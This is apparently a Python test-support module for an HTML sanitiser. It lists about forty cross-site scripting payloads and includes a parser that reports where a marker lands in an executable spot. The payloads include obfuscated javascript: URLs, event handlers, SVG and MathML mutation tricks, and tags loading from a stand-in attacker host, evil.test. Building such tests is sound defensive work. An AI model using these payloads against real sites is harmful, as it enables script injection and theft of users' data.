"""Markup that tries to run script, with a checker for rendered HTML.

Every payload carries the marker ``PWN`` at the spot that would execute or
load something. ``executable_markup`` parses HTML the way a browser tokenises
it and returns each place where the marker sits in an executable position.
The marker may still appear as escaped text, which is harmless.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

MARKER = "PWN"

PAYLOADS = [
    "<script>PWN()</script>",
    "<SCRIPT SRC=https://evil.test/PWN.js></SCRIPT>",
    "<img src=x onerror=PWN()>",
    '<a href="https://ok.test/" onclick="PWN()">link</a>',
    "<body onload=PWN()>",
    '<a href="javascript:PWN()">js</a>',
    '<a href="JaVaScRiPt:PWN()">mixed case</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:PWN()">entities</a>',
    '<a href="&#x6A;avascript&#x3A;PWN()">hex entities</a>',
    '<a href="java\tscript:PWN()">tab</a>',
    '<a href=" \x01javascript:PWN()">control</a>',
    '<a href="data:text/html;base64,PWNPHNjcmlwdD4=">data</a>',
    '<a href="vbscript:PWN()">vb</a>',
    "<svg onload=PWN()><circle r=1></circle></svg>",
    "<svg><script>PWN()</script></svg>",
    '<svg><a xlink:href="javascript:PWN()"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=PWN()>",
    '<math href="javascript:PWN()">m</math>',
    "<style>body{background:url(https://evil.test/PWN)}</style>",
    '<p style="background:url(javascript:PWN())">styled</p>',
    '<span style="x:expression(PWN())">ie</span>',
    '<iframe src="https://evil.test/PWN"></iframe>',
    '<iframe srcdoc="&lt;script&gt;PWN()&lt;/script&gt;"></iframe>',
    '<object data="https://evil.test/PWN.swf"></object>',
    '<embed src="https://evil.test/PWN.swf">',
    '<form action="https://evil.test/PWN"><input name=p><button>go</button></form>',
    '<button formaction="javascript:PWN()">b</button>',
    '<meta http-equiv="refresh" content="0;url=https://evil.test/PWN">',
    '<base href="https://evil.test/PWN/">',
    '<link rel=stylesheet href="https://evil.test/PWN.css">',
    '<img src="https://evil.test/PWN.png">',
    "<<script>PWN()//<</script>",
    "<scr<script>ipt>PWN()</scr</script>ipt>",
    '<p><b><i>nested <a href="javascript:PWN()">deep</b></i></p>',
    "<!--<script>PWN()</script>-->",
    "<![CDATA[<script>PWN()</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=PWN()>"></noscript>',
    '<a href="https://ok.test/" style="position:fixed;top:0" class="PWN mention">overlay</a>',
    "<details open ontoggle=PWN()>",
    '<video><source onerror="PWN()"></video>',
    "<textarea><script>PWN()</script></textarea>",
]

# Elements that run code, load a document or resource, or change how the page
# navigates: none may carry the marker in an attribute. A <meta> counts only
# with http-equiv, because pages put post text into their description.
DANGEROUS_ELEMENTS = frozenset(
    {
        "script", "style", "iframe", "frame", "object", "embed", "svg", "math",
        "base", "link", "form", "input", "button", "img", "video", "audio",
        "source", "details", "textarea", "noscript", "body",
    }
)  # fmt: skip
# Elements whose content is code or a document, so the marker inside is live.
CODE_ELEMENTS = frozenset(
    {"script", "style", "iframe", "frame", "object", "svg", "math", "noscript"}
)
URL_ATTRIBUTES = frozenset(
    {"href", "src", "action", "formaction", "data", "xlink:href", "srcdoc", "poster"}
)
UNSAFE_SCHEMES = ("javascript:", "data:", "vbscript:")
_IGNORED_IN_URL = re.compile(r"[\x00-\x20]+")


class _Scanner(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.findings: list[str] = []
        self._open_dangerous: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check_tag(tag, attrs)
        if tag in CODE_ELEMENTS:
            self._open_dangerous.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._check_tag(tag, attrs)

    def handle_endtag(self, tag: str) -> None:
        if tag in self._open_dangerous:
            while self._open_dangerous and self._open_dangerous.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        if MARKER in data and self._open_dangerous:
            self.findings.append(f"marker inside <{self._open_dangerous[-1]}>")

    def _check_tag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        for name, value in attrs:
            text = value or ""
            if MARKER not in text:
                continue
            refresh = tag == "meta" and any(key == "http-equiv" for key, _ in attrs)
            if tag in DANGEROUS_ELEMENTS or refresh:
                self.findings.append(f"<{tag} {name}> carries the marker")
            elif name.startswith("on") or name in ("style", "class"):
                self.findings.append(f"<{tag}> attribute {name} carries the marker")
            elif name in URL_ATTRIBUTES:
                url = _IGNORED_IN_URL.sub("", text).lower()
                if url.startswith(UNSAFE_SCHEMES):
                    self.findings.append(f"<{tag} {name}> has an unsafe URL")


def executable_markup(html: str) -> list[str]:
    """Return where the marker sits in an executable position in ``html``."""
    scanner = _Scanner()
    scanner.feed(html)
    scanner.close()
    return scanner.findings
